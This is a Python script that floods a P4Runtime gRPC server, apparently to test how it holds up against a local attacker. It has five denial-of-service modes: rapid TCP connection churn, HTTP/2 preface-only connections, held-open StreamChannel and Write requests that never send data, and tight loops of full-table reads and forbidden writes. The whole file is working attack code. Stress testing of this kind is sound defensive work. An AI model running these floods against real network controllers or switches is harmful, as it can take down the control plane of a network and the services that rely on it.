"""attack_p4runtime.py NAME ADDRESS SECONDS: floods a P4Runtime server as a local user could, and prints a summary as one line of JSON."""

import json
import socket
import sys
import threading
import time
from collections import deque

import grpc
from p4.v1 import p4runtime_pb2, p4runtime_pb2_grpc

# Connections that an attacker keeps open: many times more than the server accepts.
KEPT = 200
SENDERS = 8
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def channel(address):
    """Opens a channel with a connection of its own."""
    return grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])


def connections(address, until, say=b""):
    """Opens some hundred connections a second that send `say` and nothing more."""
    host, _, port = address.rpartition(":")
    kept, made, refused = deque(), 0, 0
    while time.monotonic() < until:
        try:
            kept.append(socket.create_connection((host, int(port)), 1))
            kept[-1].sendall(say)
            made += 1
        except OSError:
            refused += 1
        if len(kept) > KEPT:
            kept.popleft().close()
        time.sleep(0.002)
    return {"connections": made, "refused": refused}


def in_threads(work, count):
    counts = [0] * count
    threads = [threading.Thread(target=work, args=(counts, number), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


def held(address, until, open_request, count):
    """Opens requests that never send a message, each on its own connection. A new one replaces each that ends."""

    def work(counts, number):
        while time.monotonic() < until:
            with channel(address) as own:
                is_over = threading.Event()
                try:
                    open_request(own, iter(is_over.wait, True), max(0.1, until - time.monotonic()))
                except grpc.RpcError:
                    pass
                is_over.set()
                counts[number] += 1
                time.sleep(0.05)

    return {"requests": in_threads(work, count)}


def hold_stream(own, silence, timeout):
    for _ in p4runtime_pb2_grpc.P4RuntimeStub(own).StreamChannel(silence, timeout=timeout):
        pass


def hold_write(own, silence, timeout):
    nothing = lambda message: b""
    own.stream_unary("/p4.v1.P4Runtime/Write", request_serializer=nothing, response_deserializer=nothing)(silence, timeout=timeout)


def requests(address, until):
    """Sends reads of all entries, and writes that are not allowed, as fast as they are answered."""

    def work(counts, number):
        with channel(address) as own:
            stub = p4runtime_pb2_grpc.P4RuntimeStub(own)
            everything = p4runtime_pb2.ReadRequest(device_id=7)
            everything.entities.add().table_entry.table_id = 0
            forbidden = p4runtime_pb2.WriteRequest(device_id=7)
            forbidden.updates.add().type = p4runtime_pb2.Update.INSERT
            while time.monotonic() < until:
                for ask in (lambda: list(stub.Read(everything, timeout=2)), lambda: stub.Write(forbidden, timeout=2)):
                    try:
                        ask()
                    except grpc.RpcError:
                        pass
                    counts[number] += 1

    return {"requests": in_threads(work, SENDERS)}


ATTACKS = {
    "connections": connections,
    "greetings": lambda address, until: connections(address, until, HELLO),
    "held-streams": lambda address, until: held(address, until, hold_stream, 3 * SENDERS),
    "held-writes": lambda address, until: held(address, until, hold_write, 3 * SENDERS),
    "requests": requests,
}

if __name__ == "__main__":
    name, address, seconds = sys.argv[1:]
    print(json.dumps(ATTACKS[name](address, time.monotonic() + float(seconds))))
